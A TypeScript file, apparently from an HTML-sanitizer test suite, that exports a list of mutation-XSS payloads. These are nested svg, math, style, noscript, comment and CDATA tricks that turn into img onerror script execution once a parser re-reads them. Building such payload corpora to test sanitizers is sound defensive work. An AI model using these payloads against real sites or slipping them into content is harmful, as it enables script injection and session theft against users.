import { byItself, type Payload } from './payload'

const NESTED = '<b><i>'.repeat(300)

/** What is harmless as it is written and is not once a parser has read it twice. */
export const mutating: Payload[] = byItself('mutation', [
  '<svg><style><a title="</style><img src=x onerror=%J%>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%J%&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%J%>',
  '<svg></p><style><a id="</style><img src=x onerror=%J%>">',
  '<noscript><p title="</noscript><img src=x onerror=%J%>">',
  '<title><p title="</title><img src=x onerror=%J%>">',
  '<textarea><p title="</textarea><img src=x onerror=%J%>">',
  '<xmp><p title="</xmp><img src=x onerror=%J%>">',
  '<noembed><p title="</noembed><img src=x onerror=%J%>">',
  '<iframe><p title="</iframe><img src=x onerror=%J%>">',
  '<!--><img src=x onerror=%J%>-->',
  '<!-- --!><img src=x onerror=%J%> -->',
  '<?php <img src=x onerror=%J%>?>',
  '<![CDATA[<img src=x onerror=%J%>]]>',
  '<svg><![CDATA[</svg><img src=x onerror=%J%>]]></svg>',
  '<select><style></select><img src=x onerror=%J%></style>',
  '<table><td><svg><desc><table><style><a id="</style><img src=x onerror=%J%>">',
  '<p id="a&quot;&gt;&lt;img src=x onerror=%J%&gt;">p</p>',
  '<a title="`><img src=x onerror=%J%>">a</a>',
  `${NESTED}<svg><style><a title="</style><img src=x onerror=%J%>">`,
  `<form>${NESTED}<math><mtext></form><form><mglyph><style></math><img src=x onerror=%J%>`,
  '<svg><annotation-xml><foreignobject><style><!--</style><p title="--><img src=x onerror=%J%>">',
  '<plaintext><img src=x onerror=%J%>',
])
